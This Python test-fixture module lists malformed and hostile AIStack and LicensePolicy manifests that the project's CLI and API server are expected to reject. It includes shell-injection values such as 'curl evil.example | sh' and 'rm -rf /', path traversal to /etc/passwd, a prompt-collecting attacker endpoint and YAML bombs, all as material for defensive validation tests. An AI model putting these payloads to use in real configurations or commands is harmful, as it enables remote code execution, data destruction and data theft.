"""Malformed and hostile AIStacks and LicensePolicies, with what must refuse each.

One table for two tests: the unit test feeds every case to the CLI (exit status 2, a
message naming the field, no traceback); the e2e test sends every case the API server can
see to the real API server as a dry run (refused, with a message naming the field, by the
CRD schema, its CEL rules or the license webhook).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Any

from aistack.api import rules

MiB = 2**20
API_VERSION = "aistack.dev/v1alpha1"


@dataclass(frozen=True)
class Case:
    id: str
    #: The object, or None for raw text only the CLI reads (YAML bombs).
    doc: dict[str, Any] | None
    #: What the API server's refusal must contain; None: the API server is not asked.
    api: str | None
    #: What the CLI's message must contain; None: the CLI does not judge this.
    cli: str | None
    #: Raw YAML for the CLI instead of ``doc``.
    text: str | None = None
    #: The CLI command that reads it (render for stacks, license check for policies).
    command: tuple[str, ...] = field(default=("render", "-f"))


def _merge(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(base)
    for k, v in patch.items():
        if isinstance(v, dict) and isinstance(out.get(k), dict):
            out[k] = _merge(out[k], v)
        else:
            out[k] = copy.deepcopy(v)
    return out


def stack(name: str = "bad", meta: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "apiVersion": API_VERSION,
        "kind": "AIStack",
        "metadata": {"name": name, **(meta or {})},
        "spec": {"models": [{"name": "m", "source": "org/m", "license": "MIT"}]},
    }
    return _merge(doc, {"spec": spec})


def model(**fields: Any) -> dict[str, Any]:
    """A stack whose one model has ``fields`` changed."""
    return stack(models=[{"name": "m", "source": "org/m", "license": "MIT", **fields}])


def provider(**fields: Any) -> dict[str, Any]:
    """A stack routing to one hosted provider with ``fields`` changed (None: left out)."""
    route = {"name": "gpt", "provider": "openai", "model": "gpt-4o-mini",
             "credentialsSecretRef": {"name": "keys", "key": "openai"}, **fields}  # fmt: skip
    routes = [{k: v for k, v in route.items() if v is not None}]
    return stack(gateway={"providers": routes, "authSecretRef": {"name": "gw", "key": "key"}})


def policy(**spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": API_VERSION,
        "kind": "LicensePolicy",
        "metadata": {"name": "bad-policy"},
        "spec": spec,
    }


def both(id: str, doc: dict[str, Any], says: str) -> Case:
    """Refused by the API server and the CLI, each naming ``says``."""
    return Case(id, doc, says, says)


POLICY_CHECK = ("license", "check", "org/m", "--license", "MIT", "--policy")
LONG = "x" * 100

CASES: list[Case] = [
    # --- wrong types
    both("models-not-a-list", stack(models="all of them"), "spec.models"),
    both("spec-not-an-object", {**stack(), "spec": ["models"]}, "spec"),
    both("gpus-a-string", model(gpus="two"), "spec.models[0].gpus"),
    both("replicas-a-float", model(replicas=1.5), "spec.models[0].replicas"),
    both("gpu-util-a-string", model(gpuMemoryUtilization="high"),
         "spec.models[0].gpuMemoryUtilization"),
    both("extra-args-a-string", model(extraArgs="--enforce-eager"), "spec.models[0].extraArgs"),
    both("extra-arg-a-number", model(extraArgs=[42]), "spec.models[0].extraArgs[0]"),
    both("node-selector-a-list", model(nodeSelector=["gpu"]), "spec.models[0].nodeSelector"),
    both("ray-enabled-a-string", stack(ray={"enabled": "yes please"}), "spec.ray.enabled"),
    both("network-policies-a-string", stack(network={"policies": "on"}),
         "spec.network.policies"),
    both("tolerations-an-object", model(tolerations={"key": "gpu"}),
         "spec.models[0].tolerations"),
    both("service-type-a-number", stack(gateway={"serviceType": 80}),
         "spec.gateway.serviceType"),
    # --- negative, zero and huge numbers
    both("gpus-negative", model(gpus=-1), "spec.models[0].gpus"),
    both("gpus-zero", model(gpus=0), "spec.models[0].gpus"),
    both("gpus-huge", model(gpus=10**6), "spec.models[0].gpus"),
    both("replicas-negative", model(replicas=-3), "spec.models[0].replicas"),
    both("replicas-huge", model(replicas=2**40), "spec.models[0].replicas"),
    both("nodes-zero", model(nodes=0), "spec.models[0].nodes"),
    both("max-model-len-zero", model(maxModelLen=0), "spec.models[0].maxModelLen"),
    both("max-model-len-huge", model(maxModelLen=10**12), "spec.models[0].maxModelLen"),
    both("gpu-util-above-one", model(gpuMemoryUtilization=1.5),
         "spec.models[0].gpuMemoryUtilization"),
    both("gpu-util-zero", model(gpuMemoryUtilization=0), "spec.models[0].gpuMemoryUtilization"),
    both("gateway-replicas-huge", stack(gateway={"replicas": 1000}), "spec.gateway.replicas"),
    both("ray-workers-negative",
         stack(ray={"workerGroups": [{"name": "w", "replicas": -1}]}),
         "spec.ray.workerGroups[0].replicas"),
    both("memory-negative", model(resources={"limits": {"memory": "-8Gi"}}),
         "spec.models[0].resources.limits.memory"),
    both("cpu-not-a-quantity", model(resources={"requests": {"cpu": "lots"}}),
         "spec.models[0].resources.requests.cpu"),
    both("mlflow-size-negative", stack(mlflow={"storage": {"size": "-10Gi"}}),
         "spec.mlflow.storage.size"),
    both("cache-size-nonsense", model(cache={"size": "big"}), "spec.models[0].cache.size"),
    # --- cross-field rules (CEL in the CRD, validators in the CLI)
    both("tp-does-not-divide-gpus", model(gpus=4, tensorParallelSize=3),
         rules.TP_DIVIDES_GPUS),
    both("multinode-too-many-replicas", model(nodes=2, replicas=65, image="r/vllm-ray:1"),
         rules.MULTINODE_REPLICAS),
    both("multinode-ray-without-ray-image", model(nodes=2, multiNode={"backend": "ray"}),
         rules.MULTINODE_IMAGE),
    both("multinode-settings-on-one-node", model(multiNode={"backend": "vllm"}),
         rules.MULTINODE_ONLY),
    both("multinode-unknown-backend", model(nodes=2, multiNode={"backend": "slurm"}),
         "spec.models[0].multiNode.backend"),
    both("multinode-topology-not-a-label", model(nodes=2, multiNode={"exclusiveTopology": "a b"}),
         "spec.models[0].multiNode.exclusiveTopology"),
    both("autoscaling-min-above-max", model(autoscaling={"minReplicas": 3, "maxReplicas": 2}),
         rules.AUTOSCALING_RANGE),
    both("autoscaling-without-max", model(autoscaling={"minReplicas": 1}),
         "spec.models[0].autoscaling.maxReplicas"),
    both("autoscaling-unknown-metric", model(autoscaling={"maxReplicas": 2, "metric": "GPU"}),
         "spec.models[0].autoscaling.metric"),
    both("autoscaling-target-zero", model(autoscaling={"maxReplicas": 2, "target": 0}),
         "spec.models[0].autoscaling.target"),
    both("autoscaling-multinode", model(nodes=2, autoscaling={"maxReplicas": 2}),
         rules.AUTOSCALING_MULTINODE),
    both("autoscaling-without-metrics",
         stack(models=[{"name": "m", "source": "org/m", "license": "MIT",
                        "autoscaling": {"maxReplicas": 2}}],
               monitoring={"enabled": False}),
         rules.AUTOSCALING_METRICS),
    both("autoscaling-default-without-metrics",
         stack(vllm={"autoscaling": {"maxReplicas": 2}}, monitoring={"enabled": False}),
         rules.AUTOSCALING_METRICS),
    both("autoscaling-min-negative", model(autoscaling={"minReplicas": -1, "maxReplicas": 2}),
         "spec.models[0].autoscaling.minReplicas"),
    both("sleeping-behind-a-keyed-gateway",
         stack(models=[{"name": "m", "source": "org/m", "license": "MIT",
                        "autoscaling": {"minReplicas": 0, "maxReplicas": 2}}],
               gateway={"authSecretRef": {"name": "gw", "key": "key"}}),
         rules.AUTOSCALING_WAKE),
    both("sleeping-by-default-without-a-gateway",
         stack(vllm={"autoscaling": {"minReplicas": 0, "maxReplicas": 2}},
               gateway={"enabled": False}),
         rules.AUTOSCALING_WAKE),
    both("ollama-gpus", model(engine="ollama", gpus=2), rules.ENGINE_OLLAMA_GPUS),
    both("ollama-by-default-multinode", stack(engine="ollama", models=[
        {"name": "m", "source": "org/m", "license": "MIT", "nodes": 2}]),
         rules.ENGINE_OLLAMA_GPUS),
    both("ollama-tensor-parallel", model(engine="ollama", tensorParallelSize=1),
         rules.ENGINE_OLLAMA_GPUS),
    both("ollama-adapters", model(engine="ollama", adapters=[
        {"name": "a", "source": "org/a", "license": "MIT"}]), rules.ENGINE_OLLAMA_LORA),
    both("ollama-extra-args", model(engine="ollama", extraArgs=["--enforce-eager"]),
         rules.ENGINE_OLLAMA_ARGS),
    both("ollama-autoscaling", model(engine="ollama", autoscaling={"maxReplicas": 2}),
         rules.ENGINE_OLLAMA_AUTOSCALING),
    both("ollama-s3-source", model(engine="ollama", source="s3://bucket/m.gguf"),
         rules.ENGINE_OLLAMA_SOURCE),
    both("ollama-revision", model(engine="ollama", revision="main"), rules.ENGINE_OLLAMA_SOURCE),
    both("quantization-on-vllm", model(quantization="Q4_K_M"), rules.QUANTIZATION_FOR_OLLAMA_HUB),
    both("quantization-of-a-pvc", model(engine="ollama", source="pvc://w/m.gguf",
                                        quantization="Q4_K_M"), rules.QUANTIZATION_FOR_OLLAMA_HUB),
    both("quantization-injection", model(engine="ollama", quantization="Q4\nFROM /etc"),
         "spec.models[0].quantization"),
    both("engine-unknown", model(engine="llamacpp"), "spec.models[0].engine"),
    both("prometheus-address-not-a-url", stack(monitoring={"prometheusAddress": "prom:9090"}),
         "spec.monitoring.prometheusAddress"),
    both("cache-size-and-claim", model(cache={"size": "10Gi", "existingClaim": "w"}),
         rules.CACHE_SIZE_OR_CLAIM),
    both("cache-neither", model(cache={"accessMode": "ReadWriteOnce"}),
         rules.CACHE_SIZE_OR_CLAIM),
    both("mlflow-replicas-without-stores", stack(mlflow={"replicas": 2}),
         rules.MLFLOW_REPLICAS),
    both("network-peer-both-kinds",
         stack(network={"allowFrom": [{"ipBlock": {"cidr": "10.0.0.0/8"}, "podSelector": {}}]}),
         rules.NETWORK_PEER.split(":")[0]),
    both("network-peer-empty", stack(network={"gatewayFrom": [{}]}),
         rules.NETWORK_PEER.split(":")[0]),
    # --- LoRA adapters
    Case("duplicate-adapters",
         model(adapters=[{"name": "a", "source": "org/a"}, {"name": "a", "source": "org/b"}]),
         api="spec.models[0].adapters[1]: Duplicate value", cli=rules.UNIQUE_ADAPTER_NAMES),
    both("adapter-named-like-a-model", model(adapters=[{"name": "m", "source": "org/a"}]),
         rules.UNIQUE_ADAPTER_NAMES),
    both("adapter-on-two-models",
         stack(models=[{"name": "m", "source": "org/m", "license": "MIT",
                        "adapters": [{"name": "a", "source": "org/a"}]},
                       {"name": "n", "source": "org/n", "license": "MIT",
                        "adapters": [{"name": "a", "source": "org/b"}]}]),
         rules.UNIQUE_ADAPTER_NAMES),
    both("too-many-adapters",
         model(adapters=[{"name": f"a{i}", "source": "org/a"}
                         for i in range(rules.MAX_ADAPTERS + 1)]),
         "spec.models[0].adapters"),
    both("adapter-unknown-scheme",
         model(adapters=[{"name": "a", "source": "https://example.com/lora"}]),
         "spec.models[0].adapters[0].source"),
    both("adapter-name-not-a-label", model(adapters=[{"name": "My_Adapter", "source": "org/a"}]),
         "spec.models[0].adapters[0].name"),
    both("adapter-without-source", model(adapters=[{"name": "a"}]),
         "spec.models[0].adapters[0].source"),
    both("max-lora-rank-not-a-choice", model(maxLoraRank=9), "spec.models[0].maxLoraRank"),
    both("max-loras-zero", model(maxLoras=0), "spec.models[0].maxLoras"),
    Case("adapter-license-denied",
         model(adapters=[{"name": "a", "source": "org/a", "license": "CC-BY-NC-4.0"}]),
         api="adapter a of model m: org/a is under CC-BY-NC-4.0", cli=None),
    # --- hosted providers
    both("provider-unknown", provider(provider="openrouter"),
         "spec.gateway.providers[0].provider"),
    both("provider-compatible-without-api-base", provider(provider="openai-compatible"),
         rules.PROVIDER_API_BASE),
    both("provider-bedrock-without-region", provider(provider="bedrock"), rules.PROVIDER_REGION),
    both("provider-named-like-a-model", provider(name="m"), rules.UNIQUE_ROUTES),
    both("provider-without-key", provider(credentialsSecretRef=None),
         "spec.gateway.providers[0].credentialsSecretRef"),
    both("provider-api-base-hostile", provider(apiBase="http://x.example/v1 --debug"),
         "spec.gateway.providers[0].apiBase"),
    both("provider-fixed-endpoint-redirected",
         provider(apiBase="https://prompt-collector.attacker.example/v1"),
         rules.PROVIDER_FIXED_ENDPOINT),
    both("providers-on-an-open-gateway",
         stack(gateway={"providers": provider()["spec"]["gateway"]["providers"]}),
         rules.PROVIDERS_NEED_AUTH),
    Case("provider-host-not-listed",
         provider(provider="openai-compatible", apiBase="https://llm.elsewhere.example/v1"),
         api="route gpt sends prompts to provider openai-compatible", cli=None),
    both("fallback-to-unknown-route",
         stack(gateway={"fallbacks": [{"model": "m", "to": ["nowhere"]}]}), rules.UNKNOWN_ROUTE),
    both("fallback-to-itself", stack(gateway={"fallbacks": [{"model": "m", "to": ["m"]}]}),
         rules.FALLBACK_TO_ITSELF),
    both("limit-without-rpm-or-tpm", stack(gateway={"limits": [{"route": "m"}]}),
         "a limit needs rpm or tpm"),
    both("limit-rpm-zero", stack(gateway={"limits": [{"route": "m", "rpm": 0}]}),
         "spec.gateway.limits[0].rpm"),
    Case("provider-not-allowed", provider(), api="route gpt sends prompts to provider openai",
         cli=None),
    Case("policy-provider-unknown", policy(providers={"allow": ["openrouter"]}),
         api="spec.providers.allow[0]", cli="spec.providers.allow[0]", command=POLICY_CHECK),
    # --- duplicate names
    Case("duplicate-models",
         stack(models=[{"name": "m", "source": "org/a"}, {"name": "m", "source": "org/b"}]),
         api="spec.models[1]: Duplicate value", cli=rules.UNIQUE_MODELS),
    Case("duplicate-worker-groups",
         stack(ray={"workerGroups": [{"name": "w"}, {"name": "w"}]}),
         api="spec.ray.workerGroups[1]: Duplicate value", cli=rules.UNIQUE_WORKER_GROUPS),
    both("model-name-clash", stack(models=[{"name": "m", "source": "org/a"},
                                           {"name": "m-g0", "source": "org/b"}]),
         rules.MODEL_NAME_CLASH),
    # --- names that overflow DNS labels once suffixed, or are no DNS labels at all
    both("stack-name-too-long", stack(name="s" * 41), rules.STACK_NAME),
    both("stack-plus-model-too-long", stack(name="s" * 40, models=[
        {"name": "m" * 7, "source": "org/m"}]), rules.MODEL_NAME_LENGTH),
    both("stack-plus-worker-group-too-long",
         stack(name="s" * 40, ray={"workerGroups": [{"name": "w" * 12}]}),
         rules.WORKER_GROUP_NAME_LENGTH),
    both("model-name-uppercase", stack(models=[{"name": "Chat", "source": "org/m"}]),
         "spec.models[0].name"),
    both("model-name-too-long", stack(models=[{"name": "m" * 64, "source": "org/m"}]),
         "spec.models[0].name"),
    both("model-name-leading-digit", stack(models=[{"name": "7b", "source": "org/m"}]),
         "spec.models[0].name"),
    Case("stack-name-not-dns", stack(name="Bad_Stack"), api="metadata.name",
         cli=rules.STACK_NAME),
    # --- unknown fields
    both("unknown-spec-field", stack(replicas=3), "spec.replicas"),
    both("unknown-model-field-typo", model(gpu=2), "spec.models[0].gpu"),
    both("unknown-gateway-field", stack(gateway={"port": 8080}), "spec.gateway.port"),
    both("unknown-peer-field", stack(network={"allowFrom": [{"namespace": "x"}]}),
         "spec.network.allowFrom[0].namespace"),
    # --- injection attempts
    both("source-shell", model(source="org/m; curl evil.example | sh"), "spec.models[0].source"),
    both("source-path-traversal", model(source="../../etc/passwd"), "spec.models[0].source"),
    both("source-s3-bad-bucket", model(source="s3://A_B/prefix"), "spec.models[0].source"),
    both("source-nul", model(source="pvc://weights/a\x00b"), "spec.models[0].source"),
    both("source-control-character", model(source="s3://bucket/a\nb"), "spec.models[0].source"),
    both("source-dot-dot", model(source="pvc://weights/approved/../other"),
         "spec.models[0].source"),
    both("adapter-path-with-equals",
         model(adapters=[{"name": "a", "source": "pvc://loras/x=y", "license": "MIT"}]),
         "spec.models[0].adapters[0].source"),
    both("speculation-too-long-for-lora",
         model(adapters=[{"name": "a", "source": "pvc://loras/a", "license": "MIT"}],
               speculative={"method": "ngram", "numSpeculativeTokens": 8}),
         rules.SPECULATIVE_WITH_LORA),
    both("revision-on-a-pvc-source", model(source="pvc://weights/m", revision="main"),
         rules.REVISION_FOR_HUB),
    Case("license-with-a-license-as-exception",
         model(source="pvc://weights/m", license="Apache-2.0 WITH CC-BY-NC-4.0"),
         api="cannot be used as an exception", cli=None),
    both("revision-shell", model(revision="main && rm -rf /"), "spec.models[0].revision"),
    both("image-shell", model(image="vllm/vllm-openai; rm -rf /"), "spec.models[0].image"),
    both("image-command-substitution", stack(gateway={"image": "$(curl evil.example)"}),
         "spec.gateway.image"),
    both("image-newline", stack(ray={"image": "rayproject/ray\nprivileged: true"}),
         "spec.ray.image"),
    both("image-uppercase-path", stack(mlflow={"image": "ghcr.io/MLflow/MLflow"}),
         "spec.mlflow.image"),
    both("vllm-default-image-space", stack(vllm={"image": "vllm openai"}), "spec.vllm.image"),
    both("allowed-hosts-comma", stack(mlflow={"allowedHosts": ["ok.example,evil.example"]}),
         "spec.mlflow.allowedHosts[0]"),
    both("license-shell", model(license="MIT; drop table"), "spec.models[0].license"),
    both("toleration-operator-bogus", model(tolerations=[{"key": "k", "operator": "Maybe"}]),
         "spec.models[0].tolerations[0].operator"),
    both("service-type-external-name", stack(gateway={"serviceType": "ExternalName"}),
         "spec.gateway.serviceType"),
    both("secret-ref-empty-name", stack(gateway={"authSecretRef": {"name": "", "key": "k"}}),
         "spec.gateway.authSecretRef.name"),
    both("secret-ref-no-key", model(hfTokenSecretRef={"name": "hf"}),
         "spec.models[0].hfTokenSecretRef.key"),
    # --- too many, too long, too big
    both("too-many-models",
         stack(models=[{"name": f"m{i}", "source": "org/m"} for i in range(33)]),
         "spec.models"),
    both("too-many-extra-args", model(extraArgs=["--x"] * 65), "spec.models[0].extraArgs"),
    both("too-many-peers", stack(network={"gatewayFrom": [
        {"ipBlock": {"cidr": f"10.{i}.0.0/16"}} for i in range(17)]}),
         "spec.network.gatewayFrom"),
    both("node-selector-value-too-long", model(nodeSelector={"gpu": LONG}),
         "spec.models[0].nodeSelector.gpu"),
    both("one-mib-extra-arg", model(extraArgs=["a" * MiB]), "spec.models[0].extraArgs[0]"),
    both("one-mib-source", model(source="org/" + "m" * MiB), "spec.models[0].source"),
    both("one-mib-annotation", stack(meta={"annotations": {"note": "n" * MiB}}),
         "metadata.annotations"),
    # --- not an AIStack at all
    Case("api-version-not-served", {**stack(), "apiVersion": "aistack.dev/v9"},
         api='no matches for kind "AIStack" in version "aistack.dev/v9"',
         cli="apiVersion: 'aistack.dev/v9' is not served"),
    # --- license governance: valid, but the cluster's policy refuses it (webhook)
    Case("license-non-commercial", model(license="CC-BY-NC-4.0"), api="CC-BY-NC-4.0",
         cli=None),
    Case("license-unknown", model(source="pvc://weights/m", license=None), api="unknown",
         cli=None),
    # --- LicensePolicies
    Case("policy-enforcement-bogus", policy(enforcement="Sometimes"), api="spec.enforcement",
         cli="spec.enforcement", command=POLICY_CHECK),
    Case("policy-unknown-bogus", policy(unknown="Allow"), api="spec.unknown",
         cli="spec.unknown", command=POLICY_CHECK),
    Case("policy-allow-a-string", policy(allow="MIT"), api="spec.allow", cli="spec.allow",
         command=POLICY_CHECK),
    Case("policy-allow-shell", policy(allow=["MIT`reboot`"]), api="spec.allow[0]",
         cli="spec.allow[0]", command=POLICY_CHECK),
    Case("policy-unknown-field", policy(allowed=["MIT"]), api="spec.allowed",
         cli="spec.allowed", command=POLICY_CHECK),
    Case("policy-exception-no-reason", policy(exceptions=[{"model": "org/m"}]),
         api="spec.exceptions[0].reason", cli="spec.exceptions[0].reason", command=POLICY_CHECK),
    Case("policy-pvc-exception-without-namespace",
         policy(exceptions=[{"model": "pvc://weights/approved", "reason": "LEGAL-1"}]),
         api=rules.PVC_EXCEPTION_NAMESPACE, cli=rules.PVC_EXCEPTION_NAMESPACE,
         command=POLICY_CHECK),
    Case("policy-provider-host-with-scheme",
         policy(providers={"hosts": ["https://llm.example"]}),
         api="spec.providers.hosts[0]", cli="spec.providers.hosts[0]", command=POLICY_CHECK),
    Case("policy-image-pattern-bogus", policy(images={"allow": ["ghcr.io/acme/*/x"]}),
         api="spec.images.allow[0]", cli="spec.images.allow[0]", command=POLICY_CHECK),
    Case("policy-too-many-entries", policy(deny=["MIT"] * 257), api="spec.deny",
         cli="spec.deny", command=POLICY_CHECK),
    # --- YAML the CLI must survive (kubectl never sends these as such)
    Case("yaml-billion-laughs", None, api=None, cli="expands into more than", text="\n".join(
        ["apiVersion: aistack.dev/v1alpha1", "kind: AIStack", "metadata: {name: bomb}",
         "spec:", '  a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
        + [f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
        + ["  models: [{name: m, source: org/m, extraArgs: *a8}]"])),
    Case("yaml-recursive-alias", None, api=None, cli="recursive alias",
         text="apiVersion: aistack.dev/v1alpha1\nkind: AIStack\nmetadata: &m {name: x, m: *m}\n"),
    Case("yaml-deep-nesting", None, api=None, cli="nested too deeply",
         text="spec: " + "[" * 50_000 + "]" * 50_000 + "\n"),
    Case("yaml-not-a-mapping", None, api=None, cli="expected a mapping", text="- just\n- a list\n"),
    Case("yaml-binary", None, api=None, cli="not UTF-8", text="\udcff\udcfe"),
]  # fmt: skip
